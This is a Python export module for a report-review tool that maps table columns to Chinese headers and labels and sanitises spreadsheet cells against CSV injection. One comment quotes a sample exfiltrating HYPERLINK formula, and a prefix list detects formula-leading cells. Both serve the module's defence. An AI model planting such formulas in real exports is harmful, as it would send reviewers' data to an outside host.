"""The tables every export draws from, and their Chinese column names and value labels.

One place says what a column is called for a reviewer (Excel, Word) so that every export
uses the same words; CSV and Parquet keep the English column names researchers script
against, with values unchanged.
"""
from __future__ import annotations

import os
from typing import Any

import pandas as pd

from ..data.labels import CONTENT_ZH, DECISION_ZH, DOC_TYPE_ZH, LEVEL_ZH, ORIGIN_ZH, SEVERITY_ZH
from ..data.labels import FIGURE_KIND_ZH as KIND_ZH

TABLES = ("reports", "findings", "figures", "panel", "status", "sections")


HEADERS_ZH = {
    "reports": {
        "unit_name": "单位", "report_year": "报告年度", "title": "标题", "doc_type": "文件类型", "level": "层级",
        "province": "省", "city": "市", "county": "县", "jurisdiction": "行政区划", "department": "部门",
        "issuer": "发布单位", "division_code": "区划代码", "published": "公开日期",
        "found_on": "查自其他网站（公开日期为该页面的日期）", "signed": "成文日期", "score_total": "得分", "n_errors": "错误", "n_warnings": "警告", "n_info": "提示", "n_corpus": "跨报告问题",
        "missing_contents": "缺少内容", "inferred": "推断字段", "truncation": "文本可能不完整",
        "chars": "字数", "format": "格式", "source": "来源",
        "error": "读取错误", "sha256": "文件指纹（SHA-256）", "ingested_at": "入库时间",
    },
    "findings": {
        "unit_name": "单位", "report_year": "报告年度", "severity": "级别", "check_zh": "检查项", "message": "问题说明",
        "quote": "原文", "origin": "来源", "decision": "审查结论", "decision_comment": "审查意见",
        "decision_user": "审查人", "decided_at": "审查时间", "check": "检查编号", "start": "起始位置", "end": "结束位置",
        "title": "报告标题", "sha256": "文件指纹（SHA-256）",
    },
    "figures": {
        "unit_name": "单位", "report_year": "报告年度", "doc_type": "文件类型", "indicator_zh": "指标", "value": "数值",
        "value_high": "数值上限", "unit": "计量单位", "approx": "约数", "kind": "类型", "direction": "增减方向", "quote": "原文", "indicator": "指标编号",
        "level": "层级", "province": "省", "city": "市", "start": "起始位置", "end": "结束位置",
        "sha256": "文件指纹（SHA-256）",
    },
    "status": {
        "unit": "单位", "level": "层级", "parent": "上级", "status_zh": "报送情况", "published": "公开日期",
        "days_late": "逾期天数", "missing_contents": "缺少内容", "n_errors": "错误", "n_warnings": "警告",
        "title": "报告标题", "note": "备注", "url": "报告栏目", "source": "来源", "sha256": "文件指纹（SHA-256）",
    },
    "panel": {
        "unit_name": "单位", "report_year": "报告年度", "indicator_zh": "指标", "value": "数值", "unit": "计量单位",
        "approx": "约数", "n_values": "出现次数", "level": "层级", "province": "省", "city": "市", "county": "县",
        "indicator": "指标编号", "sha256": "文件指纹（SHA-256）",
    },
}


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP "CSV injection"):
# a reviewer's comment =HYPERLINK("http://…"&A2,"点我") would send the row's data away when clicked.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(v: Any) -> Any:
    """A text cell that a spreadsheet would take for a formula, prefixed with ' (shown as text, as OWASP
    advises); every other value unchanged. Used by every CSV and XLSX export."""
    if isinstance(v, str) and v.startswith(FORMULA_START):
        return "'" + v
    return v


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """`df` with `safe_cell` applied to its text columns (a copy when anything changes)."""
    out = df
    for col in df.columns:
        if df[col].dtype == object or pd.api.types.is_string_dtype(df[col].dtype):
            mapped = df[col].map(safe_cell)
            if not mapped.equals(df[col]):
                if out is df:
                    out = df.copy()
                out[col] = mapped
    return out


def as_list(v: Any) -> list:
    """A list column's value as a list (DuckDB hands lists to pandas as lists or numpy arrays)."""
    if v is None or isinstance(v, str) or (isinstance(v, float) and pd.isna(v)):
        return [] if not isinstance(v, str) else [v]
    return list(v)


def report_filters(options: dict[str, Any]) -> dict[str, Any]:
    """The export options that select reports (year, level, place ...), as Corpus filters."""
    keys = ("year", "years", "level", "province", "city", "county", "jurisdiction", "department", "unit", "doc_type",
            "review_state", "sha256")
    return {k: options[k] for k in keys if options.get(k) is not None}


def frame(corpus, name: str, registry: "str | os.PathLike[str] | None" = None, **options: Any) -> pd.DataFrame:
    """One table of the corpus with English column names (CSV, Parquet, and the base of the Chinese ones)."""
    f = report_filters(options)
    if name == "reports":
        return corpus.reports(**f)
    if name == "findings":
        df = corpus.findings(**f)
        from ..checks.registry import specs
        from ..corpus.review import NOTE_CHECK, NOTE_ZH
        from .addressing import as_received

        names = {k: v.name for k, v in specs().items()} | {NOTE_CHECK: NOTE_ZH}
        df.insert(df.columns.get_loc("check") + 1, "check_zh", df["check"].map(names))
        # the 审查意见's words: of a text that may be cut off, a part is not in the text received
        reps = corpus.reports(**f)
        cut = set(reps.loc[reps["truncated"].fillna(False).astype(bool), "sha256"]) if "truncated" in reps else set()
        if cut and not df.empty:
            df["message"] = [as_received(m) if s in cut and isinstance(m, str) else m
                             for s, m in zip(df["sha256"], df["message"])]
        return df
    if name == "figures":
        df = corpus.figures(**f)
        # which document a figure was read from: a look-alike of the unit (its 信息公开年报) has figures
        # too, and a row of the same unit and year would read as the report's own
        kinds = corpus.reports(**f).set_index("sha256")["doc_type"]
        df.insert(df.columns.get_loc("report_year") + 1, "doc_type", df["sha256"].map(kinds))
        return _with_indicator_names(df)
    if name == "panel":
        return _with_indicator_names(corpus.panel(**f))
    if name == "sections":
        return corpus.all_sections()
    if name == "status":
        year = options.get("year")
        if year is None:
            raise ValueError("导出报送情况需要指定年度（--year）")
        return _lateness_decisions(corpus.status(int(year), registry=registry), corpus.findings(**f))
    raise ValueError(f"未知的表：{name}；可选：{'、'.join(TABLES)}")


def _lateness_decisions(st: pd.DataFrame, findings: pd.DataFrame) -> pd.DataFrame:
    """The status table with a note on each late unit whose timeliness finding a reviewer decided:
    the 通报 leaves a dismissed one off its late list, and the sheet says why it differs."""
    from .addressing import phrase

    fs = findings[(findings["check"] == "timeliness") & findings["decision"].notna()]
    if fs.empty:
        return st
    by = {r["sha256"]: r for r in fs.to_dict("records")}
    st = st.copy()
    for i, r in st.iterrows():
        dec = by.get(r["sha256"]) if r["status"] == "late" and isinstance(r["sha256"], str) else None
        if dec is None or dec["decision"] != "dismissed":
            continue
        comment = dec.get("decision_comment")
        note = phrase("lateness_dismissed", comment=f"：{comment}" if isinstance(comment, str) and comment else "")
        st.at[i, "note"] = "；".join(x for x in (r["note"], note) if isinstance(x, str) and x)
    return st


def _with_indicator_names(df: pd.DataFrame) -> pd.DataFrame:
    from ..understand.indicators import taxonomy

    names = taxonomy().names
    df.insert(df.columns.get_loc("indicator") + 1, "indicator_zh", df["indicator"].map(names))
    return df


def chinese(df: pd.DataFrame, name: str) -> pd.DataFrame:
    """The table as a reviewer reads it: Chinese headers in a useful order, Chinese value labels."""
    out = df.copy()
    if "level" in out:
        out["level"] = out["level"].map(lambda v: LEVEL_ZH.get(v, v))
    if name == "reports":

        # a look-alike's contents were not checked (not_a_report says so): it lacks none of them
        out["missing_contents"] = [("、".join(CONTENT_ZH.get(k, k) for k in as_list(v)) if t == "report" else "")
                                   for v, t in zip(out["missing_contents"], out["doc_type"])]
        out["doc_type"] = out["doc_type"].map(lambda v: DOC_TYPE_ZH.get(v, v))
        if "inferred" in out:  # the fields the document did not state, named as their columns are
            names = HEADERS_ZH["reports"]
            out["inferred"] = out["inferred"].map(lambda v: "、".join(names.get(k, k) for k in as_list(v)))
        if "truncation" in out:
            from .addressing import incomplete, truncation

            out["truncation"] = out["truncation"].map(lambda v: incomplete(truncation({"truncation": v})) or "")
    if name == "findings":
        out["severity"] = out["severity"].map(lambda v: SEVERITY_ZH.get(v, v))
        out["origin"] = out["origin"].map(lambda v: ORIGIN_ZH.get(v, v))
        out["decision"] = out["decision"].map(lambda v: DECISION_ZH.get(v, v) if isinstance(v, str) else "")
    if name == "figures":
        out["doc_type"] = out["doc_type"].map(lambda v: DOC_TYPE_ZH.get(v, v))
        out["kind"] = out["kind"].map(lambda v: KIND_ZH.get(v, v))
        out["direction"] = out["direction"].map(lambda v: {"up": "增加", "down": "减少"}.get(v, ""))
    if "approx" in out:
        out["approx"] = out["approx"].map(lambda v: "是" if v is True or v == 1 else "")
    headers = HEADERS_ZH[name]
    cols = [c for c in headers if c in out.columns]
    return out[cols].rename(columns=headers)
